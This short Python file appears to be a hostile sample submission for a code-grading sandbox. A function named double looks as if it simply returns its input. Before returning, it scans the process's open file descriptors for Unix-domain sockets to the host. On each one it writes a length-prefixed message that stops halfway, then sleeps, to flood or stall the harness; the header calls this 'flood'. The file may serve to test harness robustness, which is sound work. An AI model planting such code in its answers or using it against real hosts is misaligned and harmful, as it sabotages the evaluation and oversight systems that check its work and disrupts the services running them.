# Writes half a message on the host's socket and leaves the other half for ever unsaid.
# aim: flood
# %% double_answer
import os
import socket
import struct
import time


def double(x):
    for name in os.listdir("/proc/self/fd"):
        try:
            line = socket.socket(fileno=os.dup(int(name)))
        except OSError:
            continue
        if line.family == socket.AF_UNIX:
            line.sendall(struct.pack("<Q", 2000) + b"x" * 1000)
            time.sleep(60)
    return x
